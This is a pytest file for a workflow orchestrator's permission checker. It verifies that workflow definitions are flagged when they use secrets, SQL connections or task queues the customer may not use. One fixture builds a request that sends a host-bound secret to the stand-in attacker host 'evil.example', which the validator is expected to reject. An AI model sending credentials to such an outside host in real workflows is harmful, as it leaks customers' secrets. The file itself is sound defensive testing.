"""A definition names only what its customer may use; without permissions nothing is known, and nothing reported."""

from itertools import pairwise
from typing import Any

import pytest

from activities import load_builtin_registry
from orchestrator.model.permissions import MAX_QUEUE, Permissions, SecretInfo, describe_missing_secret
from orchestrator.planner.planner import check

OWN = Permissions(
    customer_id="acme",
    secrets={
        "token": SecretInfo("token", "acme"),
        "shared": SecretInfo("shared", "*"),
        "bound": SecretInfo("bound", "acme", hosts=("api.example.com",)),
        "mail": SecretInfo("mail", "acme", hosts=("api.example.com",), actions=("email.send",)),
        "signal": SecretInfo("signal", "acme", actions=("event.emit",)),
        "short": SecretInfo("short", "acme", is_short=True),
    },
    sql_connections=["crm"],
    task_queues=["orchestrator", "gpu"],
)


def build_definition(*nodes: dict[str, Any], **more: Any) -> dict[str, Any]:
    names = ["trigger", *(node["id"] for node in nodes)]
    edges = [{"source": a, "target": b} for a, b in pairwise(names)]
    return {"name": "w", "trigger": {"type": "manual"}, "nodes": list(nodes), "edges": edges, **more}


def act(action: str, config: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {"id": "a", "type": "action", "action": action, "config": config, **more}


def log(message: str, **more: Any) -> dict[str, Any]:
    return act("log.message", {"message": message}, **more)


def ask(secret: str, **more: Any) -> dict[str, Any]:
    return act("http.request", {"url": "https://api.example.com", "auth": {"token": secret}}, **more)


HOOK = {"type": "webhook", "webhook_path": "in", "config": {"secret": "{{ secrets.token }}"}}
NOTIFY = {"notify": {"action": "log.message", "config": {"message": "{{ secrets.nowhere }}"}}}
UNDO = {"compensate": {"action": "log.message", "config": {"message": "{{ secrets.bound }}"}}}
QUERY = {"connection": "crm", "statement": "SELECT 1"}
FOUND: dict[str, tuple[dict[str, Any], list[tuple[str, str]]]] = {
    "own secret": (build_definition(ask("{{ secrets.token }}")), []),
    "shared secret": (build_definition(ask("{{ secrets.shared }}")), []),
    "bound secret for its action": (build_definition(ask("{{ secrets.bound }}")), []),
    "missing secret": (
        build_definition(ask("{{ secrets.nowhere | trim }}")),
        [("missing_secret", "/nodes/0/config/auth/token")],
    ),
    "missing secret in a notification": (
        build_definition(log("hi"), settings=NOTIFY),
        [("missing_secret", "/settings/notify/config/message")],
    ),
    "bound secret for another action": (
        build_definition(log("{{ secrets.bound }}")),
        [("forbidden_secret", "/nodes/0/config/message")],
    ),
    "secret in an event, which is stored": (
        build_definition(act("event.emit", {"name": "paid", "data": {"key": "{{ secrets.token }}"}})),
        [("forbidden_secret", "/nodes/0/config/data/key")],
    ),
    "secret for events": (
        build_definition(act("event.emit", {"name": "paid", "data": {"key": "{{ secrets.signal }}"}})),
        [],
    ),
    "bound secret in a compensation": (
        build_definition(ask("{{ secrets.bound }}", **UNDO)),
        [("forbidden_secret", "/nodes/0/compensate/config/message")],
    ),
    "secret for other actions": (
        build_definition(ask("{{ secrets.mail }}")),
        [("forbidden_secret", "/nodes/0/config/auth/token")],
    ),
    "bound secret for another host": (
        build_definition(act("http.request", {"url": "https://evil.example/", "json": ["{{ secrets.bound }}"]})),
        [("forbidden_secret", "/nodes/0/config/json/0")],
    ),
    "bound secret for a computed host": (
        build_definition(act("http.request", {"url": "https://{{ input.host }}/", "json": ["{{ secrets.bound }}"]})),
        [],
    ),
    "webhook with an own secret": (build_definition(log("hi"), trigger=HOOK), []),
    "webhook with a shared secret": (
        build_definition(log("hi"), trigger=HOOK | {"config": {"secret": "{{ secrets.shared }}"}}),
        [("missing_secret", "/trigger/config/secret")],
    ),
    "webhook with a short secret": (
        build_definition(log("hi"), trigger=HOOK | {"config": {"secret": "{{ secrets.short }}"}}),
        [("weak_secret", "/trigger/config/secret")],
    ),
    "webhook with a bound secret": (
        build_definition(log("hi"), trigger=HOOK | {"config": {"secret": "{{ secrets.bound | slice(0, 1) }}"}}),
        [("forbidden_secret", "/trigger/config/secret")],
    ),
    "own connection": (build_definition(act("sql.query", QUERY)), []),
    "computed connection": (build_definition(act("sql.query", QUERY | {"connection": "{{ input.db }}"})), []),
    "connection of another": (
        build_definition(act("sql.query", QUERY | {"connection": "erp"})),
        [("unknown_connection", "/nodes/0/config/connection")],
    ),
    "own task queue": (build_definition(log("hi", task_queue="gpu")), []),
    "task queue of another": (
        build_definition(log("hi", task_queue="cpu")),
        [("bad_task_queue", "/nodes/0/task_queue")],
    ),
    "default task queue of another": (
        build_definition(log("hi"), settings={"task_queue": "cpu"}),
        [("bad_task_queue", "/settings/task_queue")],
    ),
}


@pytest.mark.parametrize("case", FOUND)
def test_what_a_customer_may_not_use_is_reported(case: str) -> None:
    definition, expected = FOUND[case]

    problems = check(definition, registry=load_builtin_registry(), permissions=OWN).problems

    assert [(problem.code, problem.path) for problem in problems] == expected


@pytest.mark.parametrize("case", FOUND)
def test_nothing_is_reported_where_nothing_is_known(case: str) -> None:
    assert check(FOUND[case][0], registry=load_builtin_registry()).problems == []


@pytest.mark.parametrize(
    "name", ["temporal-sys-per-ns-tq", "/_sys/orchestrator/1", "q" * (MAX_QUEUE + 1), "a\nb", " a"]
)
@pytest.mark.parametrize("where", ["node", "settings"])
def test_a_task_queue_that_temporal_would_not_serve_is_an_error(name: str, where: str) -> None:
    """Such a run would wait for ever."""
    node = log("hi", **({"task_queue": name} if where == "node" else {}))
    definition = build_definition(node, settings={"task_queue": name} if where == "settings" else {})

    verdict = check(definition, registry=load_builtin_registry())

    assert [problem.code for problem in verdict.problems] == ["bad_task_queue"]
    assert verdict.plan is None


def test_a_missing_secret_says_what_to_set() -> None:
    """The message is the same in `validate`, `activate` and the step."""
    (problem,) = check(build_definition(ask("{{ secrets.crm }}")), permissions=OWN).problems

    assert problem.severity == "warning"
    assert (
        problem.message
        == describe_missing_secret("crm", "acme")
        == ("there is no secret 'crm': add it under 'acme' to the ORCHESTRATOR_SECRETS_FILE")
    )
    assert describe_missing_secret("crm", "default") == (
        "there is no secret 'crm': set ORCHESTRATOR_SECRET_CRM, or add it under 'default' to the "
        "ORCHESTRATOR_SECRETS_FILE"
    )
